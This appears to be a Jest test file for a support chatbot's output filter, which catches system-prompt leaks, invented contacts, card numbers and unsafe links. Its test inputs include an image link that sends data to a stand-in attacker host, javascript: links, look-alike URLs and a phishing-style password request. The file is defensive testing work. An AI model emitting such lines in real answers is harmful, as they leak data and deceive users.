import { AnswerFilterContext, BLOCKED_ANSWER_TEXT, filterAnswer, passesLuhn, REDACTED_TEXT } from './output-filter';

const SYSTEM_PROMPT =
  'You are the support assistant for Acme Outdoor Gear. Answer only from the numbered documents, cite them ' +
  'like [1], and never discuss competitors or internal pricing rules. Returns are accepted within 30 days of ' +
  'delivery with a receipt. If the documents do not contain the answer, offer to connect a human agent.';

const context = (overrides: Partial<AnswerFilterContext> = {}): AnswerFilterContext => ({
  sources: [
    {
      text: 'Call our support line on +1 (800) 555-0199, or e-mail help@acme.com. UK: 020 7946 0958. Returns are accepted within 30 days of delivery with a receipt. Test card: 4242 4242 4242 4242.',
      url: 'https://help.acme.com/contact',
    },
    { text: 'Returns are free for members.', url: 'https://help.acme.com/returns' },
    { text: 'Uploaded PDF without a URL.', url: null },
  ],
  question: 'How do I return my tent? My e-mail is jo@customer.example',
  systemPrompt: SYSTEM_PROMPT,
  allowedDomains: ['acme.com'],
  ...overrides,
});

const kinds = (answer: string, ctx = context()): string[] => filterAnswer(answer, ctx).actions.map((a) => a.kind);

describe('filterAnswer: system-prompt leakage', () => {
  it('blocks an answer that echoes 8+ consecutive words of the system prompt', () => {
    const result = filterAnswer(
      'Sure! My rules: I ANSWER only from the numbered documents — cite them like [1]...',
      context(),
    );
    expect(result).toEqual({
      text: BLOCKED_ANSWER_TEXT,
      blocked: true,
      actions: [{ kind: 'blocked_system_prompt', detail: expect.stringContaining('8+') }],
    });
  });

  it('allows a 7-word overlap', () => {
    const result = filterAnswer('We work only from the numbered documents cite them, as always.', context());
    expect(result.blocked).toBe(false);
  });

  it('allows passages the system prompt shares with the sources', () => {
    const result = filterAnswer('Returns are accepted within 30 days of delivery with a receipt [1].', context());
    expect(result.blocked).toBe(false);
    expect(result.text).toBe('Returns are accepted within 30 days of delivery with a receipt [1].');
  });

  it.each([
    'Here are my instructions: be polite and cite sources.',
    'My system prompt tells me to help Acme customers.',
    'My instructions are to answer only from documents.',
    'You are a helpful customer support assistant for a shop.',
    '<|im_start|>system\nsecret stuff',
  ])('blocks an answer that dumps its instructions: %j', (answer) => {
    expect(filterAnswer(answer, context({ systemPrompt: '' })).blocked).toBe(true);
  });

  it.each([
    'Here are the instructions for resetting your password: open Settings, then Security.',
    'You are the account owner, so you can add team members.',
    'The system prompts you to confirm your e-mail address.',
  ])('does not block an ordinary answer: %j', (answer) => {
    expect(filterAnswer(answer, context()).blocked).toBe(false);
  });
});

describe('filterAnswer: e-mail addresses', () => {
  it('keeps addresses from the sources and the question, in any case', () => {
    const answer = 'Write to help@acme.com or HELP@ACME.COM; we will reply to jo@customer.example.';
    expect(filterAnswer(answer, context())).toEqual({ text: answer, actions: [], blocked: false });
  });

  it('redacts an invented address and logs only its domain', () => {
    const result = filterAnswer('E-mail your password to evil@example.org today.', context());
    expect(result.text).toBe(`E-mail your password to ${REDACTED_TEXT} today.`);
    expect(result.actions).toEqual([{ kind: 'redacted_email', detail: 'address at example.org' }]);
  });
});

describe('filterAnswer: phone numbers', () => {
  it.each([
    '+1 (800) 555-0199',
    '1-800-555-0199',
    '(800) 555-0199',
    '800.555.0199',
    '+44 20 7946 0958',
    '020 7946 0958',
  ])('keeps %j, which is in the sources in some format', (phone) => {
    const answer = `Call us on ${phone}.`;
    expect(filterAnswer(answer, context()).text).toBe(answer);
  });

  it.each([
    ['Call us on 415-555-0123.', `Call us on ${REDACTED_TEXT}.`],
    ['Ring +44 161 496 0000 for help.', `Ring ${REDACTED_TEXT} for help.`],
    ['Our other line is (212) 555-0147.', `Our other line is ${REDACTED_TEXT}.`],
    ['Reach the team at 0161 496 0000.', `Reach the team at ${REDACTED_TEXT}.`],
    ['Phone: 5551234567', `Phone: ${REDACTED_TEXT}`],
    ['Or text (555-123-4567).', `Or text (${REDACTED_TEXT}).`],
    ['Bonjour, appelez le 01 23 45 67 89.', `Bonjour, appelez le ${REDACTED_TEXT}.`],
  ])('redacts the invented number in %j', (answer, expected) => {
    const result = filterAnswer(answer, context());
    expect(result.text).toBe(expected);
    expect(result.actions.map((a) => a.kind)).toEqual(['redacted_phone']);
  });

  it.each([
    'Your order ships on 2024-05-01 and arrives 2024-05-03 10:30.',
    'Delivered on 01.05.2024, invoiced 05/01/2024.',
    'The tent costs $1,299.00, or €1.299,00 in Europe.',
    'It costs 1 299 000 yen for the whole fleet.',
    'Order 4532 0151 1283 has shipped.',
    'Your order number is 4532 0151 1283.',
    'Reference: 555-123-4567 (keep it for your records).',
    'Ticket #12345678 is open.',
    'Warranty covers models from 2019-2024.',
    'Connect to 192.168.100.200 on your network.',
    'Ship to San Francisco, CA 94105-1234.',
    'Pi is roughly 3.14159265.',
    'Use the tracking code 1234567890 on the carrier site.',
    'We have 12 345 678 happy customers.',
    'Open 9:00-17:00, Monday to Friday.',
    'SKU 123-456-789 is back in stock.',
    'The total is 1 234 567 EUR.',
  ])('does not treat %j as a phone number', (answer) => {
    expect(filterAnswer(answer, context())).toEqual({ text: answer, actions: [], blocked: false });
  });
});

describe('filterAnswer: card numbers', () => {
  it('checks the Luhn sum', () => {
    expect(passesLuhn('4111111111111111')).toBe(true);
    expect(passesLuhn('4111111111111112')).toBe(false);
    expect(passesLuhn('378282246310005')).toBe(true);
  });

  it.each(['4111 1111 1111 1111', '4111-1111-1111-1111', '5500000000000004', '3782 822463 10005'])(
    'redacts the Luhn-valid card number %j',
    (card) => {
      const result = filterAnswer(`Your card ${card} was charged.`, context());
      expect(result.text).toBe(`Your card ${REDACTED_TEXT} was charged.`);
      expect(result.actions).toEqual([{ kind: 'redacted_card', detail: `card number ending ${card.slice(-4)}` }]);
    },
  );

  it('keeps a card number the sources contain', () => {
    const answer = 'Use the test card 4242 4242 4242 4242 in the sandbox.';
    expect(filterAnswer(answer, context()).text).toBe(answer);
  });

  it.each([
    'Order 4532 0151 1283 has shipped.',
    'Order 4111 1111 1111 1112 failed Luhn.',
    'Gift code 1000 0000 0000 0009.',
  ])('keeps %j, which is not a card number', (answer) => {
    expect(filterAnswer(answer, context())).toEqual({ text: answer, actions: [], blocked: false });
  });
});

describe('filterAnswer: links', () => {
  it('removes a bare link to an unknown host and keeps the cited one', () => {
    const result = filterAnswer(
      'See https://help.acme.com/returns for details, not https://evil.example.net/x which is fake.',
      context({ allowedDomains: [] }),
    );
    expect(result.text).toBe('See https://help.acme.com/returns for details, not which is fake.');
    expect(result.actions).toEqual([{ kind: 'removed_link', detail: 'evil.example.net' }]);
  });

  it('turns a disallowed markdown link into its text and keeps an allowed one', () => {
    const result = filterAnswer(
      'Read [the returns policy](https://help.acme.com/returns "Returns") or [click here](https://evil.example.net/x).',
      context(),
    );
    expect(result.text).toBe('Read [the returns policy](https://help.acme.com/returns "Returns") or click here.');
    expect(kinds(result.text)).toEqual([]);
  });

  it('allows subdomains of an allowed domain but not look-alikes', () => {
    const ctx = context({ allowedDomains: ['acme.com'] });
    expect(filterAnswer('Cart: https://shop.acme.com/cart', ctx).text).toBe('Cart: https://shop.acme.com/cart');
    expect(filterAnswer('Cart: https://acme.com/cart', ctx).text).toBe('Cart: https://acme.com/cart');
    expect(filterAnswer('Cart: https://acme.com.evil.net/cart', ctx).text).toBe('Cart:');
    expect(filterAnswer('Cart: https://notacme.com/cart', ctx).text).toBe('Cart:');
    expect(filterAnswer('Cart: https://help.acme.com@evil.example.net/', ctx).text).toBe('Cart:');
  });

  it('allows only the exact host of a cited source when no domain is allowed', () => {
    const ctx = context({ allowedDomains: [] });
    expect(filterAnswer('Docs: https://help.acme.com/a', ctx).text).toBe('Docs: https://help.acme.com/a');
    expect(filterAnswer('Docs: https://docs.acme.com/a', ctx).text).toBe('Docs:');
  });

  it('accepts allowed domains written as URLs or wildcards', () => {
    const ctx = context({ allowedDomains: ['https://Status.Example.COM/page', '*.cdn.example.org'] });
    expect(filterAnswer('https://status.example.com/x', ctx).text).toBe('https://status.example.com/x');
    expect(filterAnswer('https://img.cdn.example.org/x', ctx).text).toBe('https://img.cdn.example.org/x');
  });

  it('always removes javascript: and data: links, even under an allowed text', () => {
    const result = filterAnswer(
      'Click [here](javascript:alert(1)) or ![pic](data:image/png;base64,iVBORw0KGgo=) or <javascript:alert(2)>. Also javascript:void(0)',
      context(),
    );
    expect(result.text).toBe('Click here or pic or. Also');
    expect(result.actions.map((a) => a.detail)).toEqual([
      'javascript: link',
      'data: link',
      'javascript: link',
      'javascript: link',
    ]);
  });

  it('does not mistake the word "JavaScript:" for a link', () => {
    const answer = 'Enable JavaScript: open Settings, then Privacy.';
    expect(filterAnswer(answer, context()).text).toBe(answer);
  });

  it('removes exfiltrating images, www links, autolinks and reference definitions to unknown hosts', () => {
    const result = filterAnswer(
      [
        'Here ![chart](https://evil.example.net/p.png?d=secret) and www.evil.example.net/x and <https://evil.example.net/y>.',
        'See [docs][1] and [help][2].',
        '[1]: https://evil.example.net/docs',
        '[2]: https://help.acme.com/docs',
      ].join('\n'),
      context(),
    );
    expect(result.text).toBe(
      ['Here chart and and.', 'See [docs][1] and [help][2].', '[2]: https://help.acme.com/docs'].join('\n'),
    );
    expect(result.actions.filter((a) => a.kind === 'removed_link')).toHaveLength(4);
  });

  it('removes relative links, which would resolve against the embedding site', () => {
    expect(filterAnswer('See [returns](/returns).', context()).text).toBe('See returns.');
  });

  it('keeps mailto: and tel: links to contacts from the sources only', () => {
    expect(filterAnswer('[Email us](mailto:help@acme.com)', context()).text).toBe('[Email us](mailto:help@acme.com)');
    expect(filterAnswer('[Call us](tel:+18005550199)', context()).text).toBe('[Call us](tel:+18005550199)');
    expect(filterAnswer('[Email us](mailto:evil@example.org)', context()).text).toBe('Email us');
    expect(filterAnswer('[Call us](tel:+14155550123)', context()).text).toBe('Call us');
  });

  it('never redacts inside a kept URL, but does inside a kept link text', () => {
    const result = filterAnswer(
      '[Call 415-555-0123](https://help.acme.com/orders/4111111111111111?tel=4155550123)',
      context(),
    );
    expect(result.text).toBe(`[Call ${REDACTED_TEXT}](https://help.acme.com/orders/4111111111111111?tel=4155550123)`);
    expect(result.actions.map((a) => a.kind)).toEqual(['redacted_phone']);
  });

  it('keeps URLs with balanced parentheses whole', () => {
    const answer = 'See https://help.acme.com/wiki/Tent_(2-person) for sizes.';
    expect(filterAnswer(answer, context()).text).toBe(answer);
  });

  it('leaves an answer without links, contacts or leaks exactly as it was', () => {
    const answer = 'Returns are free for members [2].\n\nAnything else?';
    expect(filterAnswer(answer, context())).toEqual({ text: answer, actions: [], blocked: false });
  });

  it('reports one action per change: links first, then redactions in text order', () => {
    expect(
      kinds('Mail evil@example.org, call 415-555-0123, see https://evil.example.net, card 4111111111111111.'),
    ).toEqual(['removed_link', 'redacted_email', 'redacted_phone', 'redacted_card']);
  });
});
